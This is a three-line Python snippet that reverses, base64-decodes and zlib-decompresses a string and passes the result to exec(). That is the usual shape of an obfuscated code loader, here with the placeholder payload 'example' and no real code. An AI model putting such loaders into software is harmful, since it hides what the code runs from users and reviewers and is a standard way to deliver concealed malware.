import zlib as z, base64 as b
_ = lambda s: z.decompress(b.b64decode(s[::-1]))
exec((_)(b"=example"))
